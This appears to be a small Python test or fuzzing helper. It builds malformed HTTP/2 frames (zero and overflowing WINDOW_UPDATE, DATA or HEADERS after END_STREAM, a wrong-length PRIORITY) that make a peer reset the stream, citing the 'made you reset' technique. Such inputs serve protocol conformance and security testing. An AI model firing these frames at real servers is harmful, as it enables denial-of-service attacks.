"""What is wrong on an open stream, so that whoever gets it resets the stream (made you reset)."""

import wire

HEADERS, PRIORITY, WINDOW_UPDATE = 1, 2, 8
END_STREAM, END_HEADERS = 1, 4


def window_0(stream):
    return wire.frame(WINDOW_UPDATE, 0, stream, bytes(4))


def overflow(stream):
    return wire.frame(WINDOW_UPDATE, 0, stream, (0x7FFFFFFF).to_bytes(4, "big"))


def data_after_end(stream):
    return wire.frame(0, END_STREAM, stream, b"") + wire.frame(0, 0, stream, b"x")


def headers_after_end(stream):
    fields = wire.frame(HEADERS, END_HEADERS, stream, wire.literal(b"a", b"b"))
    return wire.frame(0, END_STREAM, stream, b"") + fields


def priority_length(stream):
    return wire.frame(PRIORITY, 0, stream, bytes(4))
